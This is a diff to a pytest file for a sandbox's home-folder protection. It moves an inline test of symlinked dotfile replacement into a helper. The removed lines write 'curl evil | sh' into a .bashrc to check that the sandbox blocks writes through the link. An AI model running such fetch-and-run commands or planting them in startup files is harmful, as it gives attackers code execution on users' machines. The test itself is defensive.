@@ -10,7 +10,7 @@ from pathlib import Path
 from types import SimpleNamespace
 
 import pytest
-from sandbox_support import environment, run_once, said_once
+from sandbox_support import check_link_replaced, environment, run_once, said_once
 
 from hookline.builtins.host import protection
 from hookline.kernel.errors import HooklineError
@@ -62,20 +62,7 @@ async def test_in_the_home_folder_a_dotfile_link_replaced_is_named_and_kept_from
     (workspace / "dotfiles").mkdir()
     (workspace / "dotfiles" / "bashrc").write_text("# the user's\n")
     (workspace / ".bashrc").symlink_to("dotfiles/bashrc")
-    env = environment(workspace, home)
-    try:
-        through = await env.run("echo 'curl evil | sh' >> .bashrc")
-        replaced = await env.run("rm .bashrc && echo 'curl evil | sh' > .bashrc && echo done")
-        await env.say_what_commands_made()  # as the builtin plugin does after each run
-        after = await env.run("echo 'curl more | sh' >> .bashrc")
-    finally:
-        await env.close()
-    assert "Read-only file system" in through.stderr
-    assert (workspace / "dotfiles" / "bashrc").read_text() == "# the user's\n"
-    assert "done" in replaced.stdout, replaced.stderr
-    said_once(caplog, ".bashrc")
-    assert "Read-only file system" in after.stderr
-    assert (workspace / ".bashrc").read_text() == "curl evil | sh\n"
+    await check_link_replaced(environment(workspace, home), workspace, ".bashrc", caplog)
 
 
 @pytest.mark.anyio
